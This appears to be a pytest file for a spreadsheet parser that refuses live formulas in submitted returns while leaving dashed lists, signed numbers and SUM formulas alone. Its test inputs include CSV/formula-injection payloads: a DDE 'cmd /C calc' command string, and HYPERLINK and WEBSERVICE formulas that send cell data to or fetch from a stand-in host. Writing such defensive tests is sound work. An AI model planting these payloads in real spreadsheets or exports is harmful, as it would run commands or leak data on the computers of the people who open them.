"""Cells that would run or fetch something are refused; lists with dashes and sums are left alone."""

from __future__ import annotations

import pytest

from horizontal.errors import LiveFormula
from horizontal.parsers.returns.sheet import Cell, Sheet
from horizontal.parsers.returns.sheets.live_formulas import refuse_live_formulas


def refuse(cell: Cell, *, name: str | None) -> None:
    """Looks at a sheet with this cell alone."""
    refuse_live_formulas([Sheet(name, {(1, 1): cell})], "return")


@pytest.mark.parametrize(
    "words",
    [
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.example/?"&B5,"see")',
        "=WEBSERVICE(A1)",
    ],
)
def test_words_that_would_run_or_fetch_are_refused_wherever_they_stand(words: str) -> None:
    for name in ("Return", None):
        with pytest.raises(LiveFormula):
            refuse(Cell(1, 1, words), name=name)


def test_a_formula_that_fetches_is_refused() -> None:
    with pytest.raises(LiveFormula):
        refuse(Cell(1, 1, None, formula='WEBSERVICE("http://x.example")'), name="Return")


def test_a_call_in_a_csv_is_refused_where_a_workbook_says_that_it_is_words() -> None:
    cell = Cell(1, 1, '=XLOOKUP(S35,S3:S14,R3:R14,"Not Found")')
    refuse(cell, name="Return")
    with pytest.raises(LiveFormula):
        refuse(cell, name=None)


@pytest.mark.parametrize(
    "words",
    [
        "- number of people supported\n- list of people supported (anonymised)",
        "-5",
        "+3",
        "= 12",
        "- (see note)",
    ],
)
def test_lists_with_dashes_and_signed_figures_are_left_alone(words: str) -> None:
    for name in ("Return", None):
        refuse(Cell(1, 1, words), name=name)


def test_sums_are_left_alone() -> None:
    refuse(Cell(1, 1, 5, formula="SUM(B2:B9)"), name="Return")
